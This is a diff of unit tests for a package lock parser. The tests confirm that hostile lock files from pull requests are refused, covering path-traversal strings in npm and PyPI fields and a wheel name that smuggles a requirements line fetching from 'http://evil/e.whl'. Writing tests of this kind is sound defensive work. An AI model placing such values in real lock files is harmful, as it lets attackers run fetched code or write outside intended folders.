@@ -172,3 +172,50 @@ describe('when the lock path is resolved', () => {
     );
   });
 });
+
+describe('when a lock names host paths (a hostile lock in a pull request)', () => {
+  const withPackage = (pkg: Record<string, unknown>) => {
+    const lock = lockOf([]) as unknown as { servers: { s: { package: unknown } } };
+    lock.servers.s.package = pkg;
+    return lock;
+  };
+  const npm = (fields: Record<string, unknown>) =>
+    withPackage({
+      ...{ kind: 'npm', name: '@s/pkg', version: '1.2.3', spec: '@s/pkg@1.2.3' },
+      ...{ launcher: 'store', provenance: 'absent', bin: 'dist/index.js', ...fields },
+    });
+  const pypi = (fields: Record<string, unknown>) =>
+    withPackage({
+      ...{ kind: 'pypi', name: 'tinymcp', version: '1.0.0', spec: 'tinymcp==1.0.0' },
+      ...{ command: 'tinymcp', python: '/usr/bin/python3.12', distributions: {}, ...fields },
+    });
+
+  it('[PKG-15] takes the shapes lock writes', () => {
+    expect(() => parseLock(npm({}))).not.toThrow();
+    expect(() => parseLock(npm({ name: 'Legacy.Name_x', version: '1.0.0-rc.1+b2' }))).not.toThrow();
+    expect(() => parseLock(npm({ bin: 'bin/..cli.js' }))).not.toThrow();
+    const wheel = { 'zope.interface-6.0-cp311-cp311-manylinux_2_17_x86_64.whl': 'a'.repeat(64) };
+    expect(() => parseLock(pypi({ distributions: wheel }))).not.toThrow();
+  });
+
+  it.each([
+    ['an npm bin that climbs', npm({ bin: '../../../../tmp/x/node_modules/pkg/server.js' })],
+    ['an npm bin that climbs inside', npm({ bin: 'dist/../../../x.js' })],
+    ['an absolute npm bin', npm({ bin: '/tmp/x.js' })],
+    ['an npm version with a path', npm({ version: '1.0.0/../../../tmp/x' })],
+    ['an npm name with a path', npm({ name: '@s/../../x' })],
+    ['an npm name that is ..', npm({ name: '..' })],
+    ['a pypi version with a path', pypi({ version: '1.0/../../x' })],
+    ['a pypi console script with a folder', pypi({ command: '../../../tmp/x' })],
+    ['a pypi console script ..', pypi({ command: '..' })],
+    ['a relative python', pypi({ python: 'tools/bin/python' })],
+    [
+      'a requirements line smuggled in a wheel name',
+      pypi({
+        distributions: { 'x-1.0\nevil @ http://evil/e.whl\n-py3-none-any.whl': 'a'.repeat(64) },
+      }),
+    ],
+  ])('[PKG-15] refuses %s (LOCK_INVALID)', (_, lock) => {
+    expect(() => parseLock(lock)).toThrow(expect.objectContaining({ code: 'LOCK_INVALID' }));
+  });
+});
